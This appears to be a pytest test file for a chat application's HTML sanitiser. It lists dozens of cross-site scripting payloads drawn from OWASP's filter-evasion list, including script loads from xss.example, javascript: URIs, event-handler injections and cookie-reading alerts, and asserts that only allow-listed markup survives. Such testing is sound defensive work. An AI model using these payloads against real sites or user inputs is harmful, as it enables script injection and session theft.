"""What HTML of a message may be: an allow-list, against the attacks of OWASP's filter-evasion list.

Source: chat.md section 8.7: the official UI library puts it into the page as it comes.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from watchword.chat.sanitiser import ATTRIBUTES, ELEMENTS, URL_SCHEMES, sanitise_html

ATTACKS = [
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    r"\<a onmouseover=\"alert(document.cookie)\"\>xxs link\</a\>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`('XSS')\"`",
    "<iframe src=https://xss.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));position:fixed\" class=x id=y data-z=1>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button><input autofocus></form>',
    '<img srcset="https://xss.example/a 1x" src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="  javascript:alert(1)">x</a><a href="data:text/html,x">y</a><a href="//evil.example">z</a>',
    '<a href="java&NewLine;script:alert(1)">x</a><a href="\x01javascript:alert(1)">y</a>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg><animate onbegin=alert(1) attributeName=x></svg><svg><use href="data:x"/></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)><track>",
    "<details ontoggle=alert(1) open>x</details><marquee onstart=alert(1)>y</marquee>",
    '<math href="javascript:alert(1)">x</math><textarea><img src=x onerror=alert(1)>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\ufeff<scri\0pt>alert(1)</scri\0pt>",
    "<a target=_blank ping=https://xss.example href=https://good.example>x</a>",
    "\u202e<b>gnirts a</b>" * 3,
    "<" * 2_000,
    "<div>" * 2_000,
]


class _Found(HTMLParser):
    """Every start tag of a text, as an independent parser finds it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment is left")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError("a declaration is left")


def assert_harmless(text: str) -> None:
    for tag, attributes in _Found(text).tags:
        assert tag in ELEMENTS
        for name, value in attributes.items():
            if tag == "a" and name == "rel":
                assert value == "noopener noreferrer"
                continue
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset())
            if name in ("href", "src"):
                assert value is not None
                assert value.partition(":")[0].lower() in URL_SCHEMES


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_loads_or_lays_itself_over_the_page_is_left(attack: str) -> None:
    cleaned = sanitise_html(attack)
    assert_harmless(cleaned)
    assert sanitise_html(cleaned) == cleaned


@given(
    st.lists(
        st.sampled_from([*ATTACKS[:60], "<", ">", '"', "'", "&", "=", " ", "/", "<b>", "x", "é", "\ud7ff"]), max_size=12
    )
)
def test_whatever_is_put_together_is_harmless_and_stays_as_it_is(parts: list[str]) -> None:
    cleaned = sanitise_html("".join(parts))
    assert_harmless(cleaned)
    assert sanitise_html(cleaned) == cleaned


@pytest.mark.parametrize(
    "text",
    [
        "<div>test</div>",
        "<p>Hello <b>bold</b> <i>it</i> <u>under</u><br>next</p>",
        '<ol start="3"><li>x</li></ol>',
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
        "plain &amp; simple",
        "emoji \N{GRINNING FACE} and 日本語",
        '<img src="https://host.example/a.png" alt="a" width="10" height="20">',
    ],
)
def test_what_is_on_the_list_survives_unchanged(text: str) -> None:
    """Observed: `<div>test</div>` does, chat.md section 5.1."""
    assert sanitise_html(text) == text


def test_links_are_kept_by_http_https_and_mailto_only() -> None:
    links = '<a href="https://a.example">a</a><a href="mailto:b@example">b</a><a href="ftp://c.example">c</a>'
    rel = 'rel="noopener noreferrer"'
    assert sanitise_html(links) == (
        f'<a href="https://a.example" {rel}>a</a><a href="mailto:b@example" {rel}>b</a><a {rel}>c</a>'
    )
